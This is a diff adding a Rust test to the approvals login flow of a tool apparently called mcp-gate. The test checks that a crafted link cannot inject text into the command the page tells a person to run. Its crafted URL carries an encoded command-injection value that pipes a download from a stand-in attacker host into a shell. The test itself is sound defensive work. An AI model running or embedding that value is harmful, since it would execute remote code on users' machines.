@@ -217,6 +217,11 @@ async fn approvals_open_prints_a_link_that_signs_in_at_the_request() {
     let login = login.text().await.unwrap();
     assert!(login.contains(&format!("mcp-gate approvals open --url {} {id}", gate.approvals)), "{login}");
     assert!(login.contains(&dir.join("approver-token").display().to_string()), "{login}");
+    // A link cannot put its own text into the command the page tells the person to run.
+    let crafted = "/login?next=/approvals/x%24(curl%24%7BIFS%7Devil.example%7Csh)";
+    let login = http.get(format!("{}{crafted}", gate.approvals)).send().await.unwrap().text().await.unwrap();
+    let command = login.split("<pre class=\"command\"><code>").nth(1).unwrap().split("</code>").next().unwrap();
+    assert_eq!(command, format!("mcp-gate approvals open --url {}", gate.approvals));
 }
 
 /// `approvals open` has the listener prove it knows the token first: a program squatting the
